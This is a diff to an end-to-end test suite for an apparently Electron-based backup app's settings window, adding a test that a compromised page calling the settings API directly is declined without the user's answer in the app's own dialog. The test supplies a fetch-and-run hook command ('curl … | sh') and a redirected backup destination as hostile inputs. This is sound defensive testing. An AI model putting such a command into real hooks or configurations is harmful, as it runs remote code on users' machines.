@@ -13,7 +13,9 @@ import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vites
 import { spawnProcess } from '../../core/process.js';
 import { defaultProfile, type Profile } from '../../core/settings/schema.js';
 import { openConfStore, saveSettings } from '../../core/settings/store.js';
+import type { SettingsWindowApi } from '../../electron/ipc-contract.js';
 import { createSettingsApi, type SettingsApi } from '../../electron/settings-api.js';
+import { answeredDialogs, type AnsweredDialogs } from '../support/answered-dialogs.js';
 import { launchChromium, type Chromium } from '../support/chromium.js';
 import { makeCliHome, runCli, type CliHome } from '../support/cli.js';
 import { rsyncDryRunTotals } from '../support/rsync-dry-run.js';
@@ -44,6 +46,8 @@ interface UserHome extends CliHome {
   home: string;
   configFile: string;
   api: SettingsApi;
+  /** The app's own dialogs, as the user answers them. */
+  dialogs: AnsweredDialogs;
 }
 
 /** A user of their own: temp HOME and XDG folders, and the handlers the main process would run. */
@@ -51,12 +55,14 @@ async function makeUser(): Promise<UserHome> {
   const cli = await makeCliHome();
   const home = await makeTempDir('st-user-');
   const env = { ...cli.env, HOME: home };
+  const dialogs = answeredDialogs();
   const api = createSettingsApi({
     env,
     spawn: spawnProcess,
     openBackend: openConfStore,
     now: () => new Date(),
     hostname: hostname(),
+    dialogs,
   });
   return {
     ...cli,
@@ -64,6 +70,7 @@ async function makeUser(): Promise<UserHome> {
     home,
     configFile: join(cli.configDir, 'Snaptray', 'config.json'),
     api,
+    dialogs,
   };
 }
 
@@ -210,6 +217,8 @@ describe('the settings window', () => {
     expect(await page.locator('[data-step="hard-links"] .word').textContent()).toBe('Not checked');
     await screenshot(page, 'destination-host-key-offer');
 
+    // The app's own dialog asks, with the key it scanned; the user answers Trust.
+    user.dialogs.answers.push('Trust');
     await offer.getByRole('button', { name: 'Trust this key' }).click();
     const initialise = page.getByRole('region', { name: 'Set up this folder as a destination?' });
     await initialise.waitFor({ timeout: SSH_WAIT_MS });
@@ -258,8 +267,18 @@ describe('the settings window', () => {
     const realAfter = existsSync(realKnownHosts) ? await readFile(realKnownHosts, 'utf8') : null;
     expect(realAfter).toBe(realBefore);
 
+    expect(user.dialogs.questions.map((q) => q.message)).toEqual([
+      `Trust the ssh-ed25519 key of 127.0.0.1 (port ${sshd.port})?`,
+    ]);
+    expect(user.dialogs.questions[0]!.detail).toContain(`Fingerprint: ${fingerprint}`);
+
+    // A first destination is saved after the app's own question, which names it.
+    user.dialogs.answers.push('Save');
     await page.getByRole('button', { name: 'Save' }).click();
     await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
+    expect(user.dialogs.questions[1]!.detail).toContain(
+      `Destination:\n  was: (none)\n  now: ${sshd.user}@127.0.0.1:${dest}\nPort:\n  was: (not set: 22, or the ssh config’s)\n  now: ${sshd.port}\n`,
+    );
     expect((await stat(user.configFile)).mode & 0o777).toBe(0o600);
     const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
       profiles: { default: Profile };
@@ -316,6 +335,87 @@ describe('the settings window', () => {
     await screenshot(win.page, 'destination-host-key-changed');
     await win.page.close();
   });
+  it('saves a hook and trusts a key only with the yes of the app’s own dialog, whoever asks', async () => {
+    const user = await makeUser();
+    await mkdir(join(user.configDir, 'Snaptray'), { recursive: true });
+    await writeSettings(
+      user,
+      profileWith({
+        destination: `${sshd.user}@127.0.0.1:/tmp`,
+        ssh: { ...defaultProfile().ssh, port: sshd.port, identityFile: sshd.clientKey },
+      }),
+    );
+    const before = await readFile(user.configFile);
+    const knownHosts = join(user.configDir, 'Snaptray', 'known_hosts');
+    const fingerprint = (await run('ssh-keygen', ['-l', '-f', sshd.hostKeyPub])).stdout.split(
+      ' ',
+    )[1]!;
+    const win = await open(user);
+    const { page } = win;
+
+    // A page gone bad calls its API itself, past its own controls: the app asks, nobody answers.
+    const answers = await page.evaluate(
+      async ([port, fingerprint]) => {
+        const api = (window as unknown as { snaptray: SettingsWindowApi }).snaptray;
+        const loaded = await api.loadSettings();
+        if (!loaded.ok) return [loaded];
+        const profile = loaded.value.profile;
+        return [
+          await api.saveSettings({
+            ...profile,
+            hooks: { ...profile.hooks, pre: 'curl -fsSL https://example.org/x | sh' },
+          }),
+          await api.saveSettings({ ...profile, destination: 'backup@203.0.113.9:/srv/x' }),
+          await api.trustHostKey({ host: '127.0.0.1', port, fingerprint }),
+        ];
+      },
+      [sshd.port, fingerprint] as const,
+    );
+    expect(answers).toEqual([
+      { ok: false, declined: true, message: 'Nothing was saved: you did not confirm the changes.' },
+      { ok: false, declined: true, message: 'Nothing was saved: you did not confirm the changes.' },
+      {
+        ok: false,
+        declined: true,
+        message: 'Nothing was trusted: you did not confirm the host key.',
+      },
+    ]);
+    expect(user.dialogs.questions.map((q) => [q.title, q.confirm])).toEqual([
+      ['Save Settings', 'Save'],
+      ['Save Settings', 'Save'],
+      ['Trust Host Key', 'Trust'],
+    ]);
+    expect(user.dialogs.questions[0]!.detail).toContain(
+      'Command before a backup:\n  was: (none)\n  now: curl -fsSL https://example.org/x | sh\n',
+    );
+    expect(await readFile(user.configFile)).toEqual(before);
+    expect(existsSync(knownHosts)).toBe(false);
+
+    // The user edits the hook in the window: Cancel in the app's dialog saves nothing and keeps
+    // the edit; Save saves it.
+    await goTo(page, 'Advanced');
+    await page.getByLabel('Before a backup').fill('notify-send "Backing up"');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await expect
+      .poll(() => saveStatus(page))
+      .toBe('Nothing was saved: you did not confirm the changes.');
+    expect(await readFile(user.configFile)).toEqual(before);
+    expect(await page.getByLabel('Before a backup').inputValue()).toBe('notify-send "Backing up"');
+    expect(await page.getByRole('button', { name: 'Save' }).isEnabled()).toBe(true);
+    user.dialogs.answers.push('Save');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
+    const written = JSON.parse(await readFile(user.configFile, 'utf8')) as {
+      profiles: { default: Profile };
+    };
+    expect(written.profiles.default.hooks.pre).toBe('notify-send "Backing up"');
+    expect(user.dialogs.questions.at(-1)!.detail).toContain(
+      'Command before a backup:\n  was: (none)\n  now: notify-send "Backing up"\n',
+    );
+    expect(win.problems).toEqual([]);
+    await page.close();
+  });
+
   it('previews what the excludes leave out, with the totals rsync computes', async () => {
     const user = await makeUser();
     await writeTree(user.home, {
@@ -463,6 +563,7 @@ describe('the settings window', () => {
       );
     await screenshot(page, 'retention-preview');
 
+    user.dialogs.answers.push('Save');
     await page.getByRole('button', { name: 'Save' }).click();
     await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
     const prune = await runCli(['prune', '--dry-run', '--json'], user);
@@ -562,6 +663,7 @@ describe('the settings window', () => {
     await screenshot(page, 'destination-rsync-elsewhere');
     await offer.getByRole('button', { name: 'Use /opt/bin/rsync' }).click();
     await page.locator('[data-step="rsync"].ok').waitFor({ timeout: SSH_WAIT_MS });
+    user.dialogs.answers.push('Save');
     await page.getByRole('button', { name: 'Save' }).click();
     await page.getByRole('status').filter({ hasText: 'Saved.' }).waitFor();
     const saved = JSON.parse(await readFile(user.configFile, 'utf8')) as {
